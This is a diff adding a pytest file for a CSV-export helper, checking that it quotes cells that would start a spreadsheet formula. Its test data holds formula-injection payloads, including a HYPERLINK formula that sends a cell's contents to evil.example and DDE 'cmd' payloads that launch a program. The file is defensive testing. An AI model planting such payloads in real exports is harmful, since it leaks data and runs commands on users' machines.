@@ -1,0 +1,40 @@
+"""CSV formula injection (issue 12, item 12): no cell the CLI writes starts a
+formula, whether it came from a file name, an attachment name or an
+invoice number; plain numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from service.csv_safe import csv_text, safe_cell
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "=1+2+cmd|' /C calc'!A0", "+1+2", "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "\n=1",
+           "\uff1d1+2"]
+
+
+@pytest.mark.parametrize("cell", HOSTILE)
+def test_a_cell_that_would_start_a_formula_is_quoted(cell):
+    assert safe_cell(cell) == "'" + cell
+    text = csv_text([{"name": cell, "n": 1}], ["name", "n"])
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert row["name"] == "'" + cell and row["n"] == "1"
+
+
+@pytest.mark.parametrize("cell", ["-12.50", "+3", "0", "1234.00", "invoice.pdf", "发票 =1", "", None, 12, -3.5])
+def test_plain_numbers_and_ordinary_text_are_left_alone(cell):
+    assert safe_cell(cell) == cell
+
+
+def test_every_csv_the_project_writes_goes_through_the_one_helper():
+    """A new `--csv` that writes with the csv module directly would skip the quoting."""
+    import re
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2]
+    direct = [str(p.relative_to(root)) for folder in ("agent", "service") for p in (root / folder).rglob("*.py")
+              if p.name != "csv_safe.py" and re.search(r"^\s*(import csv|from csv import)", p.read_text(), re.M)]
+    assert direct == [], f"these write CSV without service/csv_safe.py: {direct}"
